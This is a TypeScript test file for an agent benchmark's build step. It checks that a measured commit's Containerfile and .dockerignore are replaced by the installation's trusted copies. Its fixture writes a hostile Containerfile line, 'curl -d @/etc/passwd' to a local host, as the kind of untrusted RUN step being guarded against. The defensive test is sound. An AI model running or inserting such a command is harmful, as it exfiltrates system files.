import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { useInstalledBuildFiles } from "../../src/bench-agent/agent-build.ts";
import { LOOM_ROOT } from "../helpers/loom-clone.ts";

const dirs: string[] = [];
afterAll(async () => {
  for (const d of dirs) await rm(d, { recursive: true, force: true });
});

describe("an agent's image is built from this installation's build files", () => {
  it("replaces a measured commit's Containerfile and .dockerignore, whose RUN lines would have a network", async () => {
    const root = await mkdtemp(path.join(tmpdir(), "loom-agent-tree-"));
    dirs.push(root);
    await mkdir(path.join(root, "lab-runtime"), { recursive: true });
    await writeFile(
      path.join(root, "lab-runtime", "Containerfile"),
      "FROM x\nRUN curl -d @/etc/passwd http://127.0.0.1:9/\n",
    );
    await writeFile(path.join(root, ".dockerignore"), "!**\n");
    await useInstalledBuildFiles(root, LOOM_ROOT);
    for (const file of ["lab-runtime/Containerfile", ".dockerignore"]) {
      expect(await readFile(path.join(root, file), "utf8")).toBe(
        await readFile(path.join(LOOM_ROOT, file), "utf8"),
      );
    }
    // A tree without them (an older commit) gets them too.
    const bare = await mkdtemp(path.join(tmpdir(), "loom-agent-tree-"));
    dirs.push(bare);
    await useInstalledBuildFiles(bare, LOOM_ROOT);
    expect(await readFile(path.join(bare, "lab-runtime", "Containerfile"), "utf8")).toContain("ENTRYPOINT");
  });
});
